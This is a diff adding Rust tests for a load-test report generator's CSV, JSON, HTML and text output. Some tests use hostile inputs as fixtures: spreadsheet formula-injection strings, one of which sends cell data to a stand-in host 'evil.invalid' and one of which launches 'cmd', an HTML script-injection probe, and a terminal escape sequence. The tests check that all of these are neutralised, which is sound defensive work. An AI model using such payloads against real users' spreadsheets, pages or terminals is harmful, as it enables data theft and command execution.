@@ -1,0 +1,312 @@
+//! The report's tests: every format from the same fixtures.
+
+use super::*;
+use crate::series::TotalSample;
+
+/// The CSV header and the JSON client row's documented fields, in order.
+const COLUMNS: [&str; 27] = [
+    "id",
+    "status",
+    "time_ran_s",
+    "cpu_avg_pct",
+    "mem_avg_pct",
+    "files_written",
+    "file_size_mb",
+    "chunk_size_mb",
+    "heartbeats",
+    "stats_reports",
+    "bytes_written",
+    "throughput_mb_s",
+    "reason",
+    "peer",
+    "protocol_version",
+    "start_time",
+    "end_time",
+    "cpu_core_avg_pct",
+    "rss_avg_bytes",
+    "rss_peak_bytes",
+    "chunk_p50_ms",
+    "chunk_p99_ms",
+    "last_heartbeat_age_s",
+    "cpu_last_pct",
+    "mem_last_pct",
+    "rss_last_bytes",
+    "process_clients",
+];
+
+fn client(id: u32, status: Status) -> ClientReport {
+    ClientReport {
+        id,
+        status,
+        time_ran_s: 12.345,
+        cpu_avg_pct: 3.0,
+        mem_avg_pct: 0.015,
+        files_written: 4,
+        file_size_mb: 50,
+        chunk_size_mb: 10,
+        heartbeats: 2,
+        stats_reports: 1,
+        bytes_written: 200 << 20,
+        throughput_mb_s: 16.2,
+        reason: None,
+        peer: None,
+        protocol_version: None,
+        start_time: None,
+        end_time: None,
+        cpu_core_avg_pct: None,
+        rss_avg_bytes: None,
+        rss_peak_bytes: None,
+        chunk_p50_ms: None,
+        chunk_p99_ms: None,
+        last_heartbeat_age_s: None,
+        cpu_last_pct: None,
+        mem_last_pct: None,
+        rss_last_bytes: None,
+        process_clients: Some(1),
+    }
+}
+
+fn report() -> Report {
+    Report {
+        start_time: "2026-11-25T10:00:00+01:00".into(),
+        end_time: "2026-11-25T10:00:20+01:00".into(),
+        clients: vec![client(100, Status::Pass), {
+            let mut c = client(101, Status::TimedOut);
+            c.reason = Some("no heartbeat for 15.0 s".into());
+            c
+        }],
+        total: Total {
+            clients: 2,
+            passed: 1,
+            files_written: 8,
+            bytes_written: 400 << 20,
+            throughput_mb_s: 20.0,
+            first_done: None,
+            last_done: None,
+            expected_clients: None,
+            started_clients: None,
+            common_start: None,
+            series: vec![],
+        },
+        series: vec![],
+        stopped: false,
+    }
+}
+
+#[test]
+fn csv_has_the_json_field_names_and_one_row_per_client() {
+    let mut r = report();
+    r.clients[1].reason = Some("no heartbeat, \"really\"".into());
+    let text = r.to_csv();
+    let mut rd = ::csv::Reader::from_reader(text.as_bytes());
+    let header: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
+    assert_eq!(header, COLUMNS);
+    let rows: Vec<::csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), 2);
+    assert_eq!(&rows[0][0], "100");
+    assert_eq!(&rows[1][1], "TIMED OUT");
+    assert_eq!(&rows[1][12], "no heartbeat, \"really\"");
+    assert_eq!(&rows[0][12], "");
+    // No client: the header alone.
+    r.clients.clear();
+    assert_eq!(r.to_csv().lines().count(), 1);
+    assert!(r.to_csv().starts_with("id,status,"));
+}
+
+#[test]
+fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
+    let mut r = report();
+    let formulas = [
+        "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1",
+        "\r=1",
+    ];
+    r.clients = formulas
+        .iter()
+        .enumerate()
+        .map(|(i, f)| {
+            let mut c = client(100 + i as u32, Status::Failed);
+            c.reason = Some((*f).to_string());
+            c.protocol_version = Some("=1+1".into());
+            c.cpu_avg_pct = -1.5;
+            c
+        })
+        .collect();
+    r.clients.push(client(200, Status::Pass));
+    r.clients[6].reason = Some("no heartbeat for 15.0 s".into());
+    let text = r.to_csv();
+    let mut rd = ::csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<::csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
+    for (row, f) in rows.iter().zip(formulas) {
+        assert_eq!(&row[12], format!("'{f}"), "{text}");
+        assert_eq!(&row[14], "'=1+1");
+        assert_eq!(&row[3], "-1.5", "a number stays a number");
+    }
+    assert_eq!(&rows[6][12], "no heartbeat for 15.0 s");
+    assert_eq!(&rows[6][3], "3.0");
+    // The JSON keeps the peer's text exact.
+    assert_eq!(
+        Report::from_json(&r.to_json()).unwrap().clients[0]
+            .reason
+            .as_deref(),
+        Some(formulas[0])
+    );
+}
+
+#[test]
+fn html_is_self_contained_with_a_row_per_client_and_charts() {
+    use crate::series::{ClientSeries, Sample};
+    let mut r = report();
+    r.clients[1].reason = Some("<script>alert(1)</script>".into());
+    let sample = |t_s: f64, cpu_pct: f64| Sample {
+        t_s,
+        bytes_written: 0,
+        throughput_mb_s: 5.0,
+        cpu_pct,
+        mem_pct: 0.1,
+        rss_bytes: None,
+    };
+    r.series = vec![ClientSeries {
+        id: 100,
+        samples: vec![sample(1.0, 10.0), sample(2.0, 20.0)],
+    }];
+    let html = r.to_html();
+    assert!(html.starts_with("<!DOCTYPE html>"));
+    assert_eq!(html.matches("<tr><td>").count(), 2);
+    assert!(!html.contains("<script>"), "reason must be escaped");
+    assert_eq!(html.matches("<svg").count(), 2);
+    assert_eq!(html.matches(r#"data-points="2""#).count(), 2);
+    assert!(!html.contains("http://") || !html.contains("src=\"http"));
+    assert!(!html.contains("<link") && !html.contains("<script"));
+    r.series.clear();
+    assert!(r.to_html().contains("no charts"));
+    // No stats sample (a seed client, say): throughput from its bytes over its run.
+    r.clients[0].start_time = Some("2026-11-25T10:00:02+01:00".into());
+    let html = r.to_html();
+    assert_eq!(html.matches("<svg").count(), 1, "{html}");
+    assert!(html.contains(r#"data-client="client 100" data-points="2""#));
+    assert!(html.contains("no CPU chart"));
+}
+
+#[test]
+fn text_report_has_the_seed_wording() {
+    let text = report().to_text();
+    let expected_head = "\n=========================================================\n\
+        All test clients completed!\n    Start time: 2026-11-25_10:00:00\n    \
+        End time:   2026-11-25_10:00:20\n\nTotal of 2 client(s) ran. Data for each client:\n\
+        ---------------------------------------------------------\n  Client 100\n    \
+        Test status:   PASS\n    Time ran:      12.35 sec\n    Avg CPU usage: 3.00%\n    \
+        Avg MEM usage: 0.01%\n    Files written: 4\n";
+    assert!(text.starts_with(expected_head), "{text}");
+    assert!(
+        text.contains("    File size:     50\n    Chunk size:    10\n"),
+        "{text}"
+    );
+    assert!(!text.contains(" MB\n"), "{text}");
+    assert!(text.contains("    Test status:   TIMED OUT\n"));
+    assert!(text.contains("    Reason:        no heartbeat for 15.0 s\n"));
+}
+
+#[test]
+fn json_has_the_documented_keys_and_round_trips() {
+    let r = report();
+    let v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
+    // Every documented field (the CSV header lists them all, in order).
+    for key in COLUMNS {
+        assert!(v["clients"][0].get(key).is_some(), "missing {key}");
+    }
+    assert_eq!(v["clients"][1]["status"], "TIMED OUT");
+    assert!(v["clients"][0]["reason"].is_null());
+    assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
+}
+
+#[test]
+fn atomic_write_replaces_whole_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("sub").join("report.json");
+    report().write_json(&path).unwrap();
+    let back = Report::from_json(&std::fs::read_to_string(&path).unwrap()).unwrap();
+    assert_eq!(back, report());
+    let leftovers: Vec<_> = std::fs::read_dir(path.parent().unwrap())
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(leftovers.len(), 1, "{leftovers:?}");
+}
+
+#[test]
+fn totals_saturate_instead_of_wrapping() {
+    let mut a = client(100, Status::Pass);
+    a.bytes_written = u64::MAX;
+    a.files_written = u64::MAX;
+    let b = a.clone();
+    let t = Total::of(&[a, b], 1.0);
+    assert_eq!(t.bytes_written, u64::MAX);
+    assert_eq!(t.files_written, u64::MAX);
+    assert_eq!((t.clients, t.passed), (2, 2));
+}
+
+#[test]
+fn the_headline_says_when_a_run_was_stopped() {
+    let mut r = report();
+    assert!(r.to_text().contains("\nAll test clients completed!\n"));
+    r.stopped = true;
+    r.clients[1].reason = Some(STOPPED_REASON.into());
+    assert!(r
+        .to_text()
+        .contains("\nServer stopped before every test client completed!\n"));
+    r.clients.clear();
+    assert!(r
+        .to_text()
+        .contains("\nServer stopped before any test client connected!\n"));
+    let mut c = client(7, Status::Failed);
+    c.reason = Some("\x1b]0;pwned\x07".into());
+    r.clients.push(c);
+    assert!(r.to_text().contains("Reason:        \\u{1b}]0;pwned\\u{7}"));
+}
+
+#[test]
+fn fleet_mode_adds_one_line_after_the_seed_block() {
+    let mut r = report();
+    let seed = r.to_text();
+    assert!(seed.ends_with("=========================================================\n"));
+    r.total.expected_clients = Some(3);
+    r.total.started_clients = Some(2);
+    r.total.common_start = Some("2026-11-25T10:00:02+01:00".into());
+    r.total.series = vec![TotalSample {
+        t_s: 1.0,
+        bytes_written: 1,
+        throughput_mb_s: 25.5,
+    }];
+    let text = r.to_text();
+    assert!(text.starts_with(&seed), "the seed block is unchanged");
+    assert_eq!(
+        &text[seed.len()..],
+        "Fleet: 2 of 3 expected client(s) started together at 2026-11-25_10:00:02 (start \
+         timeout); 1 PASS, 8 file(s), 400.0 MB, 20.00 MB/s overall, peak 25.50 MB/s\n"
+    );
+    let html = r.to_html();
+    assert!(html.contains(r#"<p id="fleet">Fleet: 2 of 3"#), "{html}");
+    assert!(html.contains(r#"data-client="all clients" data-points="1""#));
+    r.total.started_clients = None;
+    assert!(r
+        .to_text()
+        .contains("Fleet: 3 client(s) expected, the fleet never started;"));
+    // The fields round-trip, and a report without them (an older one) still parses.
+    assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
+    let mut v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
+    for k in [
+        "expected_clients",
+        "started_clients",
+        "common_start",
+        "series",
+    ] {
+        v["total"].as_object_mut().unwrap().remove(k);
+    }
+    let old = Report::from_json(&v.to_string()).unwrap();
+    assert_eq!(old.total.expected_clients, None);
+    assert!(old.total.series.is_empty());
+}
